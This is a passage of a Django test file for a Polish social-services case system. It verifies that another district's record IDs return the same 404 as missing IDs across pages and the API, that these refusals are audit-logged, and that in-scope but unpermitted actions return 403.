    assert "postgres_roles.sql" in (root / "docs" / "security.md").read_text()


# ------------------------------------------------------------------ ids cannot be probed


def test_finding_l_other_district_ids_answer_like_missing(
    worker: Any, make_staff: Callable[..., Any], client_for: Callable[[Any], Client]
) -> None:
    """Another district's record and a missing id get the same 404 (pages and API); the
    refusal is still audited. A record the user may see but not act on stays 403."""
    from auditlog.models import LogEntry

    from ostoja.org.roles import Role
    from ostoja.org.services import api_token_create

    decision = _draft(worker)
    case = decision.case
    person = case.household.memberships.first().person
    stranger = make_staff("obcy_ro2", role=Role.SOCIAL_WORKER, unit_code="ro2")
    client = client_for(stranger)
    api = _bearer(api_token_create(user=stranger))
    pairs = [
        (reverse("registry:person_detail", args=[person.pk]), reverse("registry:person_detail", args=[999_999])),
        (reverse("cases:case_detail", args=[case.pk]), reverse("cases:case_detail", args=[999_999])),
        (reverse("decisions:detail", args=[decision.pk]), reverse("decisions:detail", args=[999_999])),
        (reverse("socialwork:case", args=[case.pk]), reverse("socialwork:case", args=[999_999])),
    ]  # fmt: skip
    for existing, missing in pairs:
        before = LogEntry.objects.filter(actor=stranger, additional_data__refused=True).count()
        a, b = client.get(existing), client.get(missing)
        assert a.status_code == b.status_code == 404, (existing, a.status_code)
        after = LogEntry.objects.filter(actor=stranger, additional_data__refused=True).count()
        assert after == before + 1, existing
    for existing, missing in (
        (f"/api/v1/persons/{person.pk}", "/api/v1/persons/999999"),
        (f"/api/v1/decisions/{decision.pk}", "/api/v1/decisions/999999"),
        (f"/api/v1/notes?case={case.pk}", "/api/v1/notes?case=999999"),
    ):
        assert api.get(existing).status_code == api.get(missing).status_code == 404, existing
    body = {"case": case.pk, "reason": "Interwencja policji w nocy, pracownik na urlopie"}
    assert api.post("/api/v1/break-glass", body, content_type="application/json").status_code == 404
    # In scope but without the action: 403 (the record is known to the user anyway).
    check = reverse("decisions:transition", args=[decision.pk, "sprawdz"])
    assert client_for(worker).post(check).status_code == 403
